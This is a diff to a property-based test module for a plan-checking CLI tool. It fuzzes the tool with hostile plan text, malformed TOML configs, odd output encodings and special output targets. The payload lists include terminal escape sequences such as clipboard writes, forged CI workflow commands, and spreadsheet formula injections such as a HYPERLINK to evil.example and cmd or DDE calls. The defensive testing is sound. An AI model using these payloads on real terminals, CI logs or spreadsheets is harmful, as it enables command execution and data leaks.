@@ -1453,3 +1453,611 @@ def own_form_plans(draw: st.DrawFn) -> MutatedPlan:
     if draw(st.integers(0, 3)) == 0:
         spec = draw(data_mutated(spec))
     return MutatedPlan(spec, [])
+
+
+# ------------------------------------------------- hostile input, round 2 (issue 14)
+
+#: Rich markup and emoji codes: plan text must be printed as it is, never interpreted.
+RICH_MARKUP = [
+    "[bold]",
+    "[/bold]",
+    "[/x]",
+    "[/]",
+    "[i]",
+    "[blink]",
+    "[red on white]",
+    "[#ff0000]",
+    "[link=https://evil.example/a?b=1]",
+    "[/link]",
+    "[@click=app.bell]",
+    "\\[bold]",
+    "[[",
+    "]]",
+    ":smile:",
+    ":warning:",
+]
+#: What a terminal acts on: every C0 control but tab and newline, DEL, every C1 control,
+#: escape sequences (CSI, OSC 8 links, OSC 52 clipboard, window title, DCS, C1 CSI and OSC),
+#: BEL, backspace, CR, bidirectional overrides and isolates, line and paragraph separators.
+TERMINAL_CONTROLS = [
+    *(chr(code) for code in range(0x20) if code not in (0x09, 0x0A)),
+    "\x7f",
+    *(chr(code) for code in range(0x80, 0xA0)),
+    "\x1b[2J",
+    "\x1b[H\x1b[3J",
+    "\x1b[31m",
+    "\x1b[0m",
+    "\x1bc",
+    "\x1b]52;c;ZXZpbA==\x07",
+    "\x1b]8;;https://evil.example\x1b\\lien\x1b]8;;\x1b\\",
+    "\x1b]0;titre\x07",
+    "\x1bP+q544e\x1b\\",
+    "\x9b2J",
+    "\x9d8;;https://evil.example\x9c",
+    "\x07",
+    "\x08\x08\x08",
+    "\r",
+    "\r\n",
+    "\u202e",
+    "\u202d",
+    "\u202a",
+    "\u2066",
+    "\u2067",
+    "\u2068",
+    "\u2069",
+    "\u200e",
+    "\u200f",
+    "\u061c",
+    "\u2028",
+    "\u2029",
+]
+#: GitHub Actions workflow commands, and the escapes the runner decodes.
+WORKFLOW_COMMANDS = [
+    "::error file=x.yaml,line=1::forged",
+    "\n::error::forged",
+    "\r\n::warning::forged",
+    "%0A::error::forged",
+    "%0D%0A::notice::forged",
+    "::add-mask::secret",
+    "::stop-commands::jeton",
+    "::set-output name=x::y",
+    "::group::x",
+    "%25",
+    "%",
+    "::",
+    ",title=CTG999",
+    ":",
+]
+_hostile_piece = st.one_of(
+    st.sampled_from(RICH_MARKUP),
+    st.sampled_from(TERMINAL_CONTROLS),
+    st.sampled_from(WORKFLOW_COMMANDS),
+    word,
+    st.text(st.characters(max_codepoint=0x2070), min_size=1, max_size=4),
+)
+
+
+@st.composite
+def hostile_text(draw: st.DrawFn, max_pieces: int = 5) -> str:
+    """Plan text that tries to act on a terminal, a CI log or rich: markup, controls, escape
+    sequences, forged workflow commands, among ordinary words. Never blank."""
+    pieces = draw(st.lists(_hostile_piece, min_size=1, max_size=max_pieces))
+    pieces.insert(
+        draw(st.integers(0, len(pieces))),
+        draw(st.one_of(st.sampled_from(RICH_MARKUP), st.sampled_from(TERMINAL_CONTROLS))),
+    )
+    text = draw(st.sampled_from(["", " "])).join(pieces)
+    return text if text.strip() else text + "x"
+
+
+#: What a spreadsheet takes for the start of a formula (OWASP « CSV Injection »), alone and
+#: behind whitespace ctg may strip.
+FORMULA_STARTS = ["=", "+", "-", "@", "\t", "\r", "\t=", "\r\n=", " =", "==", "-=", "+-", "@@"]
+FORMULA_BODIES = [
+    'HYPERLINK("https://evil.example/?"&A1,"clic")',
+    "cmd|' /C calc'!A0",
+    "1+1",
+    "SUM(1;2)*cmd|'/C calc'!A0",
+    'DDE("cmd";"/C calc";"x")',
+    "2+5",
+    "x",
+    "",
+]
+
+
+@st.composite
+def formula_text(draw: st.DrawFn) -> str:
+    """A cell a spreadsheet would run: a formula start, then a body (sometimes hostile)."""
+    body = draw(st.one_of(st.sampled_from(FORMULA_BODIES), line_text(1, 3), hostile_text(2)))
+    text = draw(st.sampled_from(FORMULA_STARTS)) + body
+    return text if text.strip() else text + "1"
+
+
+def _name_bytes(text: st.SearchStrategy[str]) -> st.SearchStrategy[bytes]:
+    """A file name from ``text`` or raw bytes (maybe not UTF-8): no ``/``, no NUL, never
+    ``.`` or ``..``, at most 120 bytes."""
+
+    def clean(raw: bytes) -> bytes:
+        raw = raw.replace(b"/", b"_").replace(b"\0", b"_")[:120]
+        return b"x" + raw if raw in (b"", b".", b"..") else raw
+
+    return st.one_of(
+        text.map(lambda t: t.encode("utf-8", "surrogatepass")),
+        st.binary(min_size=1, max_size=40),
+        st.builds(
+            lambda a, b: a + b,
+            st.sampled_from([b"plans-\xff", b"\xe9t\xe9", b"\x1b[2J", b"-"]),
+            st.binary(max_size=10),
+        ),
+    ).map(clean)
+
+
+@dataclass
+class HostilePlan:
+    """A valid generated plan (most of the time) with hostile text put into its titles,
+    codes and fiche fields, and maybe into its directory and file names (``name`` and
+    ``renamed`` are bytes: they may not be UTF-8). ``placed`` lists (where, text)."""
+
+    spec: PlanSpec
+    name: bytes = b"plan"
+    renamed: dict[str, bytes] = field(default_factory=dict)
+    placed: list[tuple[str, str]] = field(default_factory=list)
+
+    def write(self, parent: Path) -> Path:
+        root = Path(os.fsdecode(os.fsencode(parent) + b"/" + self.name))
+        write_plan(self.spec, root)
+        for old, new in self.renamed.items():
+            os.rename(root / "fiches" / old, os.fsencode(root / "fiches") + b"/" + new)
+        return root
+
+
+def _nodes(nodes: list[Any]) -> list[dict[str, Any]]:
+    out = []
+    for node in nodes:
+        out.append(node)
+        out += _nodes(node.get("enfants", []))
+    return out
+
+
+@st.composite
+def hostile_plans(
+    draw: st.DrawFn, text: st.SearchStrategy[str] | None = None, names: bool = True
+) -> HostilePlan:
+    """A generated plan with ``text`` (hostile text by default) in some of: the plan's
+    title, objective titles, level names, a new objective's code, fiche titles, numbers,
+    pilotes and partenaires, the actor registry, a key or a value a fiche gets wrong (a
+    diagnostic quotes it), the plan's directory name and its fiche file names."""
+    text = text if text is not None else hostile_text()
+    spec = draw(plan_specs())
+    case = HostilePlan(spec)
+
+    def put(where: str) -> str:
+        value = draw(text)
+        case.placed.append((where, value))
+        return value
+
+    def sometimes(odds: int = 2) -> bool:
+        return draw(st.integers(0, odds - 1)) == 0
+
+    plan = spec.plan
+    if sometimes():
+        plan["titre"] = put("plan-title")
+    quotes = [
+        objective
+        for fiche in spec.fiches.values()
+        for objective in fiche["objectifs"]
+        if isinstance(objective, dict)
+    ]
+    for node in _nodes(plan["stratégie"]):
+        if "titre" in node and sometimes(3):
+            old, node["titre"] = node["titre"], put("objective-title")
+            for quote in quotes:  # a fiche quoting the objective quotes the new title
+                if quote["texte"] == old:
+                    quote["texte"] = node["titre"]
+    for level in plan["niveaux"]:
+        if sometimes(4):
+            level["pluriel" if sometimes() else "nom"] = put("level")
+    for actor in plan.get("acteurs", []):
+        if sometimes(3):
+            actor["sigle" if sometimes(3) else "nom"] = put("registry")
+    for fiche in spec.fiches.values():
+        if sometimes():
+            fiche["titre"] = put("fiche-title")
+        for key in ("pilotes", "partenaires"):
+            if sometimes(3):
+                fiche.setdefault(key, []).append(put("actor"))
+    # A third of the plans get text where it is wrong: diagnostics quote it.
+    fiches = list(spec.fiches.values())
+    for _ in range(draw(st.sampled_from([0, 0, 1, 2]))):
+        wrong = draw(st.sampled_from(["code", "cited-code", "key", "value", "number"]))
+        if wrong == "code" or not fiches:
+            plan["stratégie"].append({"code": put("code"), "titre": put("objective-title")})
+            continue
+        fiche = draw(st.sampled_from(fiches))
+        if wrong == "cited-code":
+            fiche["objectifs"] = [*fiche["objectifs"], put(wrong)]
+        elif wrong == "key":
+            fiche[put(wrong)] = 1
+        elif wrong == "value":
+            fiche["début"] = put(wrong)
+        else:
+            fiche["numéro"] = put(wrong)
+    if names and sometimes(3):
+        case.name = draw(_name_bytes(text))
+    if names:
+        for position, old in enumerate(list(spec.fiches)):
+            if sometimes(4):
+                case.renamed[old] = b"%02d-" % position + draw(_name_bytes(text))[:100] + b".yaml"
+    return case
+
+
+# ------------------------------------------------------------- configuration files
+
+
+@dataclass
+class ConfigCase:
+    """A configuration file for ctg: ``ctg.toml`` or ``pyproject.toml``, in ``folder``
+    (bytes: maybe not UTF-8), found by walking up from the working folder or named with
+    ``--config``. ``valid``: whether ctg may use it as its configuration (None: random
+    bytes, either way)."""
+
+    name: str
+    content: bytes
+    valid: bool | None
+    named: bool  # passed with --config
+    folder: bytes = b"conf"
+
+    def __repr__(self) -> str:  # megabytes of padding are not worth printing
+        shown = self.content if len(self.content) < 600 else self.content[:300] + b"..."
+        return (
+            f"ConfigCase({self.name!r}, {shown!r} ({len(self.content)} bytes), "
+            f"valid={self.valid}, named={self.named}, folder={self.folder!r})"
+        )
+
+
+def _toml_string(text: str) -> str:
+    """``text`` as a TOML basic string (every character a TOML string may not hold raw is
+    escaped; a lone surrogate becomes U+FFFD)."""
+    out = []
+    for char in text.encode("utf-8", "replace").decode("utf-8"):
+        code = ord(char)
+        if char in '"\\':
+            out.append("\\" + char)
+        elif code < 0x20 or code == 0x7F:
+            out.append(f"\\u{code:04x}")
+        else:
+            out.append(char)
+    return '"' + "".join(out) + '"'
+
+
+def _rule_names() -> list[str]:
+    from ctgkit.rules import RULES
+
+    return [*RULES, *(rule.name for rule in RULES.values())]
+
+
+def _deep(kind: str, depth: int) -> str:
+    if kind == "array":
+        return "[" * depth + "]" * depth
+    if kind == "table":
+        return "{a = " * depth + "1" + "}" * depth
+    return "[{a = " * depth + "1" + "}]" * depth
+
+
+_TOML_WRONG = [
+    "5",
+    '"CTG041"',
+    "true",
+    "1.5",
+    "nan",
+    "-inf",
+    "1979-05-27",
+    "07:32:00",
+    "1979-05-27T07:32:00Z",
+    "{a = 1}",
+    "[1]",
+    "[[]]",
+    '["CTG041", 2]',
+    "[{}]",
+    "0x10",
+    "1e999",
+]
+_NOT_TABLES = [value for value in _TOML_WRONG if not value.startswith("{")]
+#: Numbers longer than Python converts by default (4,300 digits in base 10).
+_TOML_HUGE = [
+    "1" * 4301,
+    "1" * 4300,
+    "-" + "9" * 5000,
+    "+" + "1_" * 5000 + "1",
+    "0x" + "f" * 5000,
+    "0o" + "7" * 5000,
+    "1e" + "9" * 5000,
+    "0." + "1" * 5000,
+    "[" + "1" * 5000 + "]",
+]
+_TOML_INVALID = [
+    "",
+    "[",
+    '"unterminated',
+    "'''",
+    "= 1",
+    "CTG041",
+    "[1,,2]",
+    "{a = 1,}",
+    "1979-13-45",
+    "0b2",
+    "\x00",
+    '"\\x41"',
+    '"\\uD800"',
+    "1__0",
+]
+
+
+@st.composite
+def config_values(draw: st.DrawFn) -> tuple[str, bool]:
+    """A value for ``ignore`` (TOML source) and whether ctg accepts it."""
+    kinds = ["good", "good", "unknown-rule", "wrong-type", "huge-number", "deep", "junk"]
+    kind = draw(st.sampled_from(kinds))
+    if kind == "good":
+        names = draw(st.lists(st.sampled_from(_rule_names()), max_size=4))
+        return "[" + ", ".join(map(_toml_string, names)) + "]", True
+    if kind == "unknown-rule":
+        bad = draw(
+            st.one_of(
+                st.sampled_from(["CTG999", "ctg", "", " ", "CTG04", "nope", "CTG041 "]),
+                hostile_text(3),
+            )
+        )
+        return "[" + _toml_string(bad) + "]", False
+    if kind == "wrong-type":
+        return draw(st.sampled_from(_TOML_WRONG)), False
+    if kind == "huge-number":
+        return draw(st.sampled_from(_TOML_HUGE)), False
+    if kind == "deep":
+        depth = draw(st.sampled_from([2, 50, 300, 999, 1000, 3000, 6000]))
+        return _deep(draw(st.sampled_from(["array", "table", "mixed"])), depth), False
+    return draw(st.sampled_from(_TOML_INVALID)), False
+
+
+@st.composite
+def config_cases(draw: st.DrawFn) -> ConfigCase:
+    """A generated configuration file: right or wrong types, unknown keys, a ``tool.ctg``
+    that is not a table, deep nesting, invalid TOML, random or non-UTF-8 bytes, sizes near
+    the cap, in a folder whose name may not be UTF-8."""
+    from ctgkit.source import MAX_FILE_BYTES
+
+    name = draw(st.sampled_from(["ctg.toml", "pyproject.toml"]))
+    named = draw(st.booleans())
+    value, valid_value = draw(config_values())
+    lines = []
+    unknown = draw(st.booleans())
+    if unknown:  # a key ctg does not know, before or instead of ignore
+        key = draw(
+            st.one_of(
+                st.sampled_from(["ignorer", "Ignore", "select", "exclude", '"ig nore"']),
+                st.text(string.ascii_letters + "_-", min_size=1, max_size=8),
+            ).filter(lambda key: key != "ignore")
+        )
+        lines.append(f"{key} = {draw(config_values())[0]}")
+    with_ignore = draw(st.integers(0, 4)) > 0
+    if with_ignore:
+        lines.append(f"ignore = {value}")
+    valid: bool | None = not unknown and (valid_value or not with_ignore)
+    body = "\n".join(lines) + "\n"
+    if name == "pyproject.toml":
+        shape = draw(
+            st.sampled_from(["header", "header", "dotted", "inline", "tool-value", "ctg-value",
+                             "array-of-tables", "no-ctg"])
+        )  # fmt: skip
+        project = draw(st.sampled_from(["", '[project]\nname = "x"\n\n']))
+        if shape == "header":
+            body = f"{project}[tool.ctg]\n{body}"
+        elif shape == "dotted":
+            body = "".join(f"tool.ctg.{line}\n" for line in lines) + project
+        elif shape == "inline":
+            body = project + "[tool]\nctg = {" + ", ".join(lines) + "}\n"
+        elif shape == "tool-value":  # `tool` itself is not a table
+            body = f"tool = {draw(st.sampled_from(_NOT_TABLES))}\n"
+            valid = False
+        elif shape == "ctg-value":  # `tool.ctg` is not a table
+            body = f"{project}[tool]\nctg = {draw(st.sampled_from(_NOT_TABLES))}\n"
+            valid = False
+        elif shape == "array-of-tables":
+            body = f"[[tool.ctg]]\n{body}"
+            valid = False
+        else:  # a pyproject.toml of another tool's
+            body = f"{project}[tool.ruff]\nline-length = 100\n"
+            valid = True
+    content = body.encode("utf-8")
+    how = draw(st.sampled_from(["as is"] * 6 + ["bytes", "not-utf8", "bom", "cr", "cap"]))
+    if how == "bytes":
+        content = draw(st.binary(max_size=300))
+        if draw(st.booleans()):
+            content = b"[tool.ctg]\n" + content
+        valid = None
+    elif how == "not-utf8":
+        at = draw(st.integers(0, len(content)))
+        content = content[:at] + draw(st.sampled_from([b"\xff", b"\xe9", b"\xc3", b"\xed\xa0\x80"]))
+        content += body.encode("utf-8")[at:]
+        valid = False  # inside a comment or not, a file that is not UTF-8 is refused
+    elif how == "bom":
+        content = b"\xef\xbb\xbf" + content
+        valid = None
+    elif how == "cr":
+        content = content.replace(b"\n", b"\r")
+        valid = None
+    elif how == "cap":  # padded with a comment to a size around the cap
+        size = MAX_FILE_BYTES + draw(st.sampled_from([-4096, -2, -1, 0, 1, 2, 4096]))
+        padding = max(0, size - len(content) - 2)
+        content = content + b"#" + b"x" * padding + b"\n"
+        if len(content) > MAX_FILE_BYTES:
+            valid = False  # too large: refused before it is read
+    folder = draw(st.one_of(st.just(b"conf"), _name_bytes(hostile_text(2))))
+    return ConfigCase(name, content, valid, named, folder)
+
+
+# ------------------------------------------------------------------- output streams
+
+#: Character encodings a user's environment may impose on standard output
+#: (``PYTHONIOENCODING``), with the error handlers Python lets it name.
+IO_ENCODINGS = [
+    "ascii", "latin-1", "iso8859-15", "cp1252", "cp437", "cp850", "cp037", "koi8-r",
+    "mac-roman", "shift_jis", "euc-jp", "gb2312", "big5", "utf-8", "utf-8-sig", "utf-16",
+    "utf-16-le", "utf-16-be", "utf-32", "utf-7",
+]  # fmt: skip
+IO_ERRORS = [
+    "", ":strict", ":replace", ":ignore", ":backslashreplace", ":xmlcharrefreplace",
+    ":surrogateescape", ":namereplace",
+]  # fmt: skip
+#: Commands and their options, the plan's path after them (``{out}``: a file or folder in
+#: a scratch folder).
+STREAM_COMMANDS = [
+    ["validate"],
+    ["validate", "--format", "json"],
+    ["validate", "--format", "github"],
+    ["coverage"],
+    ["coverage", "--uncovered"],
+    ["coverage", "--format", "json"],
+    ["coverage", "--format", "csv"],
+    ["coverage", "--format", "md"],
+    ["coverage", "--format", "json", "-o", "{out}/coverage.json"],
+    ["actors"],
+    ["actors", "--format", "json"],
+    ["actors", "--format", "csv"],
+    ["render", "-o", "{out}/site"],
+]
+
+
+@dataclass
+class StreamCase:
+    """A command on a hostile plan with an output encoding ctg does not choose and a
+    standard output that may be a pipe, closed, full (/dev/full) or read by ``head -c N``."""
+
+    plan: HostilePlan
+    command: list[str]
+    encoding: str | None  # PYTHONIOENCODING, None: unset
+    stdout: str  # "pipe", "closed", "full" or "head"
+    head: int = 0  # bytes ``head -c`` reads before it exits
+
+
+@st.composite
+def stream_cases(draw: st.DrawFn) -> StreamCase:
+    encoding = None
+    if draw(st.integers(0, 4)) > 0:
+        encoding = draw(st.sampled_from(IO_ENCODINGS)) + draw(st.sampled_from(IO_ERRORS))
+    return StreamCase(
+        draw(hostile_plans()),
+        draw(st.sampled_from(STREAM_COMMANDS)),
+        encoding,
+        draw(st.sampled_from(["pipe", "pipe", "closed", "full", "head", "head"])),
+        draw(st.one_of(st.integers(0, 3), st.integers(0, 5_000), st.just(10**6))),
+    )
+
+
+# ------------------------------------------------------------------- output targets
+
+#: What ``-o`` may name besides a new file: things ctg must never replace or write into.
+SPECIAL_TARGETS = [
+    "fifo",
+    "socket",
+    "device",  # a character device made in the scratch folder (as root), else a link to one
+    "link-to-device",
+    "link-to-fifo",
+    "link-to-socket",
+    "link-chain",  # a link to a link to a FIFO
+]
+TARGET_KINDS = [
+    *SPECIAL_TARGETS,
+    "directory",
+    "link-to-directory",
+    "regular-file",
+    "inside-plan",
+    "link-into-plan",
+    "lookalike",  # a new output next to the user's files named like ctg's temporary files
+]
+#: System paths ``-o`` may name (tested in-process, with every write forbidden).
+SYSTEM_TARGETS = [
+    "/dev/null",
+    "/dev/full",
+    "/dev/zero",
+    "/dev/stdout",
+    "/dev/fd/1",
+    "/proc/self/fd/1",
+    "/dev/null/x",
+    "/dev/shm/ctg-out",
+    "/dev",
+    "/proc",
+    "/sys/kernel",
+]
+OUTPUT_COMMANDS = [
+    ["coverage", "--format", "csv"],
+    ["coverage", "--format", "json"],
+    ["coverage", "--format", "md"],
+    ["coverage", "--format", "html"],
+    ["coverage", "--format", "text"],
+    ["render"],
+    ["render", "--format", "md"],
+    ["render", "--format", "html"],
+]
+RENDERED = ["plan.md", "plan.html", "coverage.md", "coverage.html"]
+
+
+@st.composite
+def _lookalike(draw: st.DrawFn, name: str) -> str:
+    """A name a user may give a file, that looks like ctg's temporary file for ``name``
+    (``.NAME.<pid>.<random>.tmp``), or like its staging folder (``.ctg-render-*``)."""
+    pid = draw(st.one_of(st.integers(1, 2**22), st.just(os.getpid()), st.just(os.getpid() + 1)))
+    token = draw(st.text("0123456789abcdef", min_size=0, max_size=9))
+    return draw(
+        st.sampled_from(
+            [
+                f".{name}.{pid}.{token}.tmp",
+                f".{name}.{token}.tmp",
+                f".{name}.tmp",
+                f".{name}..tmp",
+                f"{name}.tmp",
+                f".{name}.{pid}.{token}.tmp.bak",
+                f".ctg-render-{token}",
+            ]
+        )
+    )
+
+
+@dataclass
+class OutputTarget:
+    """``ctg coverage -o`` or ``ctg render -o`` at a destination of kind ``kind``, made in a
+    scratch folder; ``lookalikes``: the user's files (paths relative to the output file's
+    folder, or to the output folder) named like ctg's temporary files, with their content."""
+
+    kind: str
+    command: list[str]
+    name: str  # the output file's or folder's name
+    lookalikes: dict[str, bytes]
+    relative: bool  # -o relative to the working folder
+    device: str = "/dev/null"  # what a link to a device points at
+
+
+@st.composite
+def output_targets(draw: st.DrawFn, slug: str = "plan") -> OutputTarget:
+    command = draw(st.sampled_from(OUTPUT_COMMANDS))
+    kind = draw(st.sampled_from(TARGET_KINDS))
+    name = draw(
+        st.sampled_from(["coverage.csv", "out", "c.json", ".hidden", "a b", "é", "x.tmp", "-o"])
+    )
+    lookalikes: dict[str, bytes] = {}
+    for _ in range(draw(st.integers(1 if kind == "lookalike" else 0, 4))):
+        if command[0] == "render":
+            inner = draw(st.sampled_from(RENDERED))
+            where = draw(st.sampled_from([f"{name}/{slug}/", f"{name}/", ""]))
+            path = where + draw(_lookalike(inner))
+        else:
+            path = draw(_lookalike(name))
+        lookalikes[path] = draw(st.binary(max_size=64))
+    return OutputTarget(
+        kind,
+        command,
+        name,
+        lookalikes,
+        draw(st.booleans()),
+        draw(st.sampled_from(["/dev/null", "/dev/full", "/dev/zero", "/dev/urandom"])),
+    )
